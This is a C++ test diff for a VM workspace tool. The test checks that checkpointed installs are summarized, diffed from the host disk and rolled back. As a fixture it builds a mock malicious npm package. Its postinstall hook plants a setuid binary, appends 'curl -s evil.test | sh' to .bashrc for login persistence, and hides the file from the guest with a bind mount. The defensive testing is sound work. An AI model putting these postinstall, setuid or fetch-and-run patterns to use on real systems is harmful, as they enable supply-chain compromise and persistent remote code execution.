@@ -547,5 +547,72 @@ TEST(DerivedImage, ACancelledBuildRemovesItsWorkspace) {
   EXPECT_EQ(W().Cli({"image", "list"}).out.find("cancelme"), std::string::npos);
 }
 
+// Issue #23: an install run with --checkpoint is summarized, what it left
+// is listed by a diff the host computes from the disk (not from the guest,
+// which hides its file), and a rollback takes it all away while a file
+// written before the checkpoint, and the shares, stay.
+TEST(Debian, ACheckpointedInstallIsSummarizedDiffedOnTheHostAndRolledBack) {
+  std::string dir = W().NewFolder("ckptproj");
+  ASSERT_EQ(CreateDebian("ckpt", dir), "");
+  ASSERT_EQ(Guest("ckpt", "echo before > ~/before.txt").code, 0);
+  auto pack = Guest(
+      "ckpt",
+      "mkdir -p /tmp/evil ~/app && cd /tmp/evil && printf '%s' "
+      "'{\"name\":\"evil\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"sh p.sh\"}}' > "
+      "package.json && printf '%s\\n' 'sudo cp /bin/true /usr/local/bin/x' "
+      "'sudo chmod 4755 /usr/local/bin/x' 'echo \"curl -s evil.test | sh\" >> ~/.bashrc' > p.sh && "
+      "npm pack --silent >/dev/null && ls evil-1.0.0.tgz");
+  ASSERT_EQ(pack.code, 0) << pack.out << pack.err;
+  auto install = W().Cli({"exec", "--checkpoint", "ckpt", "--", "sh", "-c",
+                          "cd ~/app && npm install --no-audit --no-fund /tmp/evil/evil-1.0.0.tgz "
+                          ">/dev/null && echo shared > /workspace/during.txt"});
+  ASSERT_EQ(install.code, 0) << install.out << install.err;
+  // The summary names all three, and how to undo them.
+  for (const char* want : {"checkpoint cp-1 of 'ckpt' taken", "/usr/local/bin/x  [setuid, on-path",
+                           "/home/user/.bashrc  [runs-at-login]", "egress denied: 0",
+                           "decoys touched: 0", "workspace rollback ckpt cp-1"}) {
+    EXPECT_NE(install.err.find(want), std::string::npos) << want << "\n" << install.err;
+  }
+  // The worm hides its file from the guest's own view (a control that the
+  // hiding works); the host reads the disk and lists it all the same.
+  ASSERT_EQ(Guest("ckpt", "sudo mkdir -p /tmp/empty && sudo mount --bind /tmp/empty /usr/local/bin",
+                  "root")
+                .code,
+            0);
+  EXPECT_NE(Guest("ckpt", "ls /usr/local/bin/x").code, 0) << "hidden in the guest";
+  auto diff = W().Cli({"diff", "ckpt", "cp-1"});
+  ASSERT_EQ(diff.code, 0) << diff.err;
+  const size_t x = diff.out.find("/usr/local/bin/x"), rc = diff.out.find("/home/user/.bashrc");
+  ASSERT_NE(x, std::string::npos) << diff.out;
+  ASSERT_NE(rc, std::string::npos) << diff.out;
+  EXPECT_EQ(diff.out.rfind("added    -rwsr-xr-x", x), diff.out.rfind('\n', x) + 1) << diff.out;
+  EXPECT_LT(x, rc) << "setuid first";
+  EXPECT_NE(diff.out.find("/home/user/app/node_modules/evil/package.json"), std::string::npos)
+      << "the install itself is listed too: " << diff.out;
+  EXPECT_GT(diff.out.find("/home/user/app/node_modules/evil/package.json"), rc)
+      << "unflagged files after the flagged ones";
+  EXPECT_EQ(diff.out.find("/workspace/"), std::string::npos) << "shares are not on the disk";
+  auto json = W().Cli({"diff", "ckpt", "cp-1", "--json"});
+  EXPECT_NE(json.out.find("\"path\":\"/usr/local/bin/x\",\"change\":\"added\",\"type\":\"file\""),
+            std::string::npos)
+      << json.out;
+  EXPECT_NE(json.out.find("\"mode\":\"4755\""), std::string::npos) << json.out;
+  // Roll back: gone, while what came before the checkpoint and the shares stay.
+  auto rollback = W().Cli({"rollback", "ckpt"});
+  ASSERT_EQ(rollback.code, 0) << rollback.err;
+  EXPECT_NE(rollback.err.find("back at checkpoint cp-1"), std::string::npos) << rollback.err;
+  auto after = Guest("ckpt",
+                     "ls /usr/local/bin/x 2>&1; grep -c evil.test ~/.bashrc; cat ~/before.txt "
+                     "/workspace/during.txt");
+  EXPECT_NE(after.out.find("cannot access '/usr/local/bin/x'"), std::string::npos) << after.out;
+  EXPECT_NE(after.out.find("\n0\nbefore\nshared\n"), std::string::npos) << after.out;
+  auto again = W().Cli({"diff", "ckpt", "cp-1", "--json"});
+  ASSERT_EQ(again.code, 0) << again.err;
+  EXPECT_NE(again.out.find("\"entries\":[]"), std::string::npos) << again.out;
+  auto list = W().Cli({"checkpoint", "ckpt", "--list"});
+  EXPECT_EQ(list.out.rfind("cp-1 ", 0), 0u) << list.out;
+  EXPECT_EQ(W().Cli({"destroy", "--force", "ckpt"}).code, 0);
+}
+
 }  // namespace
 }  // namespace ws::test
